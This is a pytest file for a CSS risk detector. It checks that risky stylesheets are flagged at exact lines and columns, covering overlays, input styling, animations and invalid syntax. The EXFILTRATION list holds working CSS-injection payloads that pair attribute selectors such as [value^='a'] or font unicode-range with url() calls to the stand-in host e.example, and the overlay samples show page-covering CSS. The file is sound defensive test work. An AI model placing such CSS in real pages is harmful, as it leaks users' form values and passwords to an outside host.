"""What a reviewer should look at in CSS, and where it is (contract L4, docs/css.md)."""

from typing import Final

import pytest

from logoadmin.domain.css import judge
from logoadmin.domain.css.verdict import MAX_RISKS
from logoadmin.domain.model.css import Form, Risk, RiskName

pytestmark = pytest.mark.rule("contract L4")

WINDOW: Final = "width:100vw;height:100vh"

# The mark § is where a risk is; it is not part of the CSS.
OVERLAYS = [
    "a{§position:fixed;inset:0}",
    "a{inset:0;color:red;§position:fixed!important}",
    f"a{{§position:absolute;{WINDOW}}}",
    "a{§position:sticky;min-block-size:95dvh;min-inline-size:stretch}",
    "a{§position:-webkit-sticky;top:0;left:-1px;bottom:0%;right:calc(1px - 1px)}",
    "a{§position:absolute;inset-block:0;inset-inline-start:0;inset-inline-end:var(--x)}",
    "a{§position:var(--x);z-index:99999}",
    "a{§position:absolute;z-index:var(--x)}",
    "a{§position:fixed;pointer-events:none}",
    "a{§PO\\53ition:FIXED;WIDTH:100%;HEIGHT:2000px}",
    "a{§position:fixed}@media print{b,a{inset:0}}",
    "a{§position:fixed;@media all{&{inset:0}}}",
    "a{box-sizing:x;§box-shadow:0 0 0 100vmax red}",
    "a{§outline:2000px solid}",
    "a{§transform:rotate(3deg) scale(40)}",
    "a{§scale:1200%}",
]
NO_OVERLAYS = [
    "a{position:absolute;top:0;left:0}",
    "a{position:relative;inset:0;z-index:5}",
    "a{position:fixed;z-index:10;width:100%}",
    "a{inset:0}b{position:fixed}",
    "a{box-shadow:0 0 10px red;transform:rotate(180deg) translate(50px);filter:hue-rotate(300deg)}",
]
INPUTS = [
    "§input{color:red}",
    "b,§INPUT.x:focus{}",
    "form>§textarea{}",
    "p:is(§select,b){}",
    "p{&:has(§input){}}",
    "§[type=password]{}",
    "x:§placeholder-shown{}",
    "x::§-webkit-input-placeholder{}",
    "x:§-webkit-autofill{}",
    "@scope(§input){b{}}",
    "a{§caret-color:red}",
    "@media all{§inp\\75t{}}",
]
NO_INPUTS = ["a.input{}", "#input{}", "a{content:'input'}", "[data-x=input]{}", "input-box{}", "@media (update:x){a{}}"]
EXFILTRATION = [
    "x§[value^='a']{background:url(//e.example/a)}",
    "§[href*='a']{p{content:image-set('https://e.example' 1x)}}",
    "p:has(§[x$=a]) q{b:url(//e.example)}",
    "§[x=a]{--y:1}b{c:url(//e.example)}",
    "§[x|=a]{font-family:f}@font-face{font-family:f;src:url(//e.example)}",
    "§[x~=a]{c:var(--y)}:root{--y:url(//e.example)}",
    "§[x=a]{width:1px}@container(width:1px){b{c:url(//e.example)}}",
    "@font-face{font-family:f;src:url(//e.example);§unicode-range:U+61}",
    "a{§b:src(attr(value))}",
    "@scope(§[a=b]){c{d:url(//e.example)}}",
]
NO_EXFILTRATION = [
    "[x^=a]{color:red}b{c:url(//e.example)}",
    "[x]{b:url(//e.example)}",
    "[x^=a]{b:url(i.png)}",
    "[x^=a]{--y:1}b{c:var(--y)}",
    "@font-face{font-family:f;src:local(x);unicode-range:U+61}",
    "[x^=a]{b:var(--y)}b{c:url(//e.example)}c{--y:1}",
]
ANIMATIONS = [
    "§@keyframes x{}",
    "§@-webkit-keyframes x{from{a:b}}",
    "a{§animation:x 1s}",
    "a{§-webkit-animation-name:x}",
    "@media all{a{b:c;§ANIMATION:none,x}}",
]
NO_ANIMATIONS = ["a{animation:none!important;animation-name:inherit}", "a{transition:all 1s}", "a{animation-delay:1s}"]
INVALID = [
    "a§{",
    "a{b:'c'}§}",
    "a§{b:§(c",
    "a{}§/* b",
    "a§{b:§'c",
    "a§{b:§url(c",
    "a{b:§url(c d)}",
    "a{b:§'c\n}",
    "a{§b}",
    "a{§*b:c}",
    "§a",
    "§{b:c}",
    "a{}\r\n\f\u00e9§)b{}",
    "a{b:§\\\nc}",
]
VALID = [
    "",
    "a{}",
    "a{b:c;}",
    "<!-- a{} -->",
    "@import 'x'",
    "/* } */ a { b: '}' }",
    "a{--b:{c};--d:;e:f}",
    "a{&:hover{b:c}@media all{d:e}f g{}}",
    "@media all{a{b:url(c)}}",
    "@layer a, b;",
    "a{b:url()}",
    "a{b:foo()}",
    "\ufeffa{}",
]

SHEETS: Final[dict[RiskName, list[str]]] = {
    "overlay": OVERLAYS + NO_OVERLAYS,
    "input_styling": INPUTS + NO_INPUTS,
    "attribute_exfiltration": EXFILTRATION + NO_EXFILTRATION,
    "animation": ANIMATIONS + NO_ANIMATIONS,
    "invalid": INVALID + VALID,
}
DECLARATIONS: Final[dict[RiskName, list[str]]] = {
    "overlay": ["§position:fixed;inset:0", "position:absolute"],
    "input_styling": ["-x:y;§-webkit-text-security:disc"],
    "animation": ["§animation:x 1s", "animation:none"],
    "invalid": [
        "a: b; §@media all { c: d }",
        "a: b; §c { d: e }",
        "a: b§}",
        "--a: §{}",
        "§@import 'x'",
        "a: b; c: d",
        "",
        "a: b; ;",
    ],
}


def places(css: str, risk: RiskName, form: Form) -> list[tuple[int, int]]:
    return [(each.line, each.column) for each in judge(css, form).risks if each.risk == risk]


def marked(css: str) -> tuple[str, list[tuple[int, int]]]:
    """Return CSS without its marks, and the lines and columns where they were."""
    found, parts = [], css.split("§")
    for index in range(1, len(parts)):
        before = "".join(parts[:index]).replace("\r\n", "\n").replace("\f", "\n")
        found.append((before.count("\n") + 1, len(before) - before.rfind("\n")))
    return "".join(parts), found


@pytest.mark.parametrize(("risk", "text"), [(risk, text) for risk, texts in SHEETS.items() for text in texts])
def test_the_risks_of_a_sheet_are_found_at_their_places(risk: RiskName, text: str) -> None:
    css, expected = marked(text)
    assert places(css, risk, "sheet") == expected


@pytest.mark.parametrize(("risk", "text"), [(risk, text) for risk, texts in DECLARATIONS.items() for text in texts])
def test_the_risks_of_declarations_are_found_at_their_places(risk: RiskName, text: str) -> None:
    css, expected = marked(text)
    assert places(css, risk, "declarations") == expected


def test_only_the_first_risks_of_a_kind_are_listed() -> None:
    risks = judge("a{*b:c}" * 100 + "@keyframes x{}", "sheet").risks
    assert [each.risk for each in risks] == ["invalid"] * MAX_RISKS + ["animation"]
    assert risks[1] == Risk("invalid", 1, 10)
